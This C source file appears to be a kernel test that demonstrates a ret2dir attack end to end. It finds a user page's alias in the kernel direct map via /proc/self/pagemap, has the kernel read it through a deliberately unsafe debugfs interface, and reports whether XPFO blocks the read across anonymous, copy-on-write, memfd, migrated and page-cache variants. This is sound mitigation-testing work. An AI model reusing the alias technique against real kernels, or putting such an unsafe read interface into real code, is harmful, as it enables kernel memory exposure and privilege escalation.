// SPDX-License-Identifier: GPL-2.0
/*
 * End-to-end ret2dir demo. A user process plants a payload in its own memory,
 * computes the payload's alias in the kernel's direct map (physmap) from
 * /proc/self/pagemap and the leaked direct-map base, and makes the kernel
 * read that alias through a deliberately unsafe test interface
 * (CONFIG_TEST_XPFO_RET2DIR, /sys/kernel/debug/xpfo_ret2dir/kmem).
 *
 * Without XPFO the kernel returns the payload: the attack works. With XPFO
 * the frame has no direct-map alias, the kernel oopses and the process that
 * asked is killed: the attack is blocked.
 *
 * Variants: anon (private anonymous page), cow (the copy a write fault makes
 * in a child after fork), shmem (memfd), pagecache (a file written with
 * write() on the scratch ext2 disk, when mounted), migrate and migrate-old
 * (an anonymous page moved to another frame by soft offline, which
 * migrates it as compaction does: the alias of its new frame, and of the
 * frame it left, which soft offline keeps out of use).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define DEMO_DIR "/sys/kernel/debug/xpfo_ret2dir"
#define PAGE 4096UL

static uint64_t read_hex_file(const char *path)
{
	char buf[64] = "";
	int fd = open(path, O_RDONLY);

	if (fd < 0 || read(fd, buf, sizeof(buf) - 1) <= 0) {
		fprintf(stderr, "ret2dir: cannot read %s: %s\n", path, strerror(errno));
		exit(2);
	}
	close(fd);
	return strtoull(buf, NULL, 0);
}

static uint64_t pfn_of(void *addr)
{
	uint64_t entry;
	int fd = open("/proc/self/pagemap", O_RDONLY);
	off_t off = ((uintptr_t)addr / PAGE) * sizeof(entry);

	if (fd < 0 || pread(fd, &entry, sizeof(entry), off) != sizeof(entry)) {
		fprintf(stderr, "ret2dir: pagemap: %s\n", strerror(errno));
		exit(2);
	}
	close(fd);
	if (!(entry & (1ULL << 63)) || !(entry & ((1ULL << 55) - 1))) {
		fprintf(stderr, "ret2dir: page not present or PFN hidden\n");
		exit(2);
	}
	return entry & ((1ULL << 55) - 1);
}

/* Ask the kernel to read 8 bytes at a kernel address. */
static int kernel_read(uint64_t kaddr, uint64_t *val)
{
	char cmd[64], buf[64] = "";
	int fd = open(DEMO_DIR "/kmem", O_RDWR);
	int n;

	if (fd < 0)
		return -1;
	n = snprintf(cmd, sizeof(cmd), "0x%" PRIx64 "\n", kaddr);
	if (write(fd, cmd, n) != n)
		return -1;
	if (pread(fd, buf, sizeof(buf) - 1, 0) <= 0)
		return -1;
	close(fd);
	*val = strtoull(buf, NULL, 0);
	return 0;
}

static int read_alias(const char *variant, uint64_t alias, uint64_t payload);

/* `payload` is at `addr` (written by the caller): read it through its alias. */
static int attack(const char *variant, volatile uint64_t *addr, uint64_t payload)
{
	uint64_t base = read_hex_file(DEMO_DIR "/page_offset");
	uint64_t pfn = pfn_of((void *)addr);
	uint64_t alias = base + pfn * PAGE + ((uintptr_t)addr % PAGE);

	printf("ret2dir[%s]: user wrote 0x%" PRIx64 " at %p, pfn 0x%" PRIx64
	       ", physmap alias 0x%" PRIx64 "\n", variant, payload, (void *)addr, pfn, alias);
	return read_alias(variant, alias, payload);
}

#ifndef MADV_SOFT_OFFLINE
#define MADV_SOFT_OFFLINE 101
#endif

/*
 * Read the alias of a frame the payload used to live in: the process no
 * longer maps it, so its pfn is given, not looked up.
 */
static int attack_pfn(const char *variant, uint64_t pfn, unsigned long off, uint64_t payload)
{
	uint64_t alias = read_hex_file(DEMO_DIR "/page_offset") + pfn * PAGE + off;

	printf("ret2dir[%s]: user wrote 0x%" PRIx64 " in pfn 0x%" PRIx64
	       " before it moved, physmap alias 0x%" PRIx64 "\n", variant, payload, pfn, alias);
	return read_alias(variant, alias, payload);
}

/*
 * Make the kernel read 8 bytes at @alias in a child process, so that an
 * oops kills only the child. Prints one RESULT line.
 */
static int read_alias(const char *variant, uint64_t alias, uint64_t payload)
{
	int pipefd[2], status;
	uint64_t got = 0;
	ssize_t n;
	pid_t pid;

	fflush(stdout);
	if (pipe(pipefd))
		return 2;
	pid = fork();
	if (pid == 0) {
		uint64_t v;

		close(pipefd[0]);
		if (kernel_read(alias, &v))
			_exit(3);
		if (write(pipefd[1], &v, sizeof(v)) != sizeof(v))
			_exit(3);
		_exit(0);
	}
	close(pipefd[1]);
	n = read(pipefd[0], &got, sizeof(got));
	close(pipefd[0]);
	waitpid(pid, &status, 0);
	if (n == sizeof(got) && WIFEXITED(status) && WEXITSTATUS(status) == 0) {
		printf("ret2dir[%s]: read 0x%" PRIx64 " through the physmap alias: %s\n", variant,
		       got, got == payload ? "ATTACK WORKS" : "wrong value");
		printf("RESULT {\"variant\": \"%s\", \"outcome\": \"read\", \"wrote\": \"0x%" PRIx64
		       "\", \"read\": \"0x%" PRIx64 "\"}\n", variant, payload, got);
	} else if (WIFSIGNALED(status)) {
		printf("ret2dir[%s]: the kernel oopsed on the alias, attacker killed by signal %d:"
		       " BLOCKED\n", variant, WTERMSIG(status));
		printf("RESULT {\"variant\": \"%s\", \"outcome\": \"blocked\", \"wrote\": \"0x%" PRIx64
		       "\", \"signal\": %d}\n", variant, payload, WTERMSIG(status));
	} else {
		printf("RESULT {\"variant\": \"%s\", \"outcome\": \"error\", \"status\": %d}\n",
		       variant, status);
	}
	fflush(stdout);
	return 0;
}

static uint64_t payload_for(int i)
{
	return 0x5846504f00000000ULL ^ ((uint64_t)getpid() << 16) ^ (uint64_t)time(NULL) ^ i;
}

static void *map_rw(size_t len, int flags, int fd)
{
	void *p = mmap(NULL, len, PROT_READ | PROT_WRITE, flags, fd, 0);

	if (p == MAP_FAILED) {
		perror("ret2dir: mmap");
		exit(2);
	}
	return p;
}

int main(int argc, char **argv)
{
	const char *only = argc > 1 ? argv[1] : NULL;
	volatile uint64_t *p;
	uint64_t v;
	int fd;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (access(DEMO_DIR "/kmem", W_OK)) {
		printf("RESULT {\"outcome\": \"error\", \"error\": \"no " DEMO_DIR "\"}\n");
		return 1;
	}

	if (!only || !strcmp(only, "anon")) {
		p = map_rw(PAGE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
		v = payload_for(1);
		p[3] = v;
		attack("anon", &p[3], v);
	}

	if (!only || !strcmp(only, "cow")) {
		int status;
		pid_t pid;

		p = map_rw(PAGE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
		p[5] = 1;
		pid = fork();
		if (pid == 0) {
			/* The write fault gives the child its own copy of the frame. */
			v = payload_for(2);
			p[5] = v;
			attack("cow", &p[5], v);
			_exit(0);
		}
		waitpid(pid, &status, 0);
	}

	if (!only || !strcmp(only, "shmem")) {
		fd = memfd_create("ret2dir", 0);
		if (fd < 0 || ftruncate(fd, PAGE)) {
			perror("ret2dir: memfd");
			return 2;
		}
		p = map_rw(PAGE, MAP_SHARED, fd);
		v = payload_for(3);
		p[7] = v;
		attack("shmem", &p[7], v);
		close(fd);
	}

	if (!only || !strcmp(only, "migrate")) {
		uint64_t old, now;

		p = map_rw(PAGE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
		v = payload_for(5);
		p[11] = v;
		old = pfn_of((void *)&p[11]);
		/* soft offline migrates the page to a new frame, the data with it */
		if (madvise((void *)p, PAGE, MADV_SOFT_OFFLINE)) {
			printf("RESULT {\"variant\": \"migrate\", \"outcome\": \"error\", "
			       "\"error\": \"madvise(MADV_SOFT_OFFLINE): %s\"}\n", strerror(errno));
		} else {
			now = pfn_of((void *)&p[11]);
			if (now == old || p[11] != v) {
				printf("RESULT {\"variant\": \"migrate\", \"outcome\": \"error\", "
				       "\"error\": \"the page did not move\"}\n");
			} else {
				attack("migrate", &p[11], v);
				attack_pfn("migrate-old", old, 8 * 11, v);
			}
		}
	}

	if (!only || !strcmp(only, "pagecache")) {
		const char *path = "/mnt/scratch/ret2dir.dat";
		char page[PAGE];

		fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0600);
		if (fd < 0) {
			printf("ret2dir[pagecache]: no scratch disk mounted, skipped\n");
		} else {
			v = payload_for(4);
			memset(page, 0, sizeof(page));
			memcpy(page + 8 * 9, &v, sizeof(v));
			if (write(fd, page, sizeof(page)) != sizeof(page)) {
				perror("ret2dir: write");
				return 2;
			}
			/* Map the cached page only to learn its frame number. */
			p = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, fd, 0);
			if (p == MAP_FAILED) {
				perror("ret2dir: mmap file");
				return 2;
			}
			/* Fault the cached page in; pagemap shows only mapped pages. */
			if (p[9] != v) {
				printf("ret2dir[pagecache]: the file does not hold the payload\n");
				return 2;
			}
			attack("pagecache", &p[9], v);
			close(fd);
		}
	}
	return 0;
}
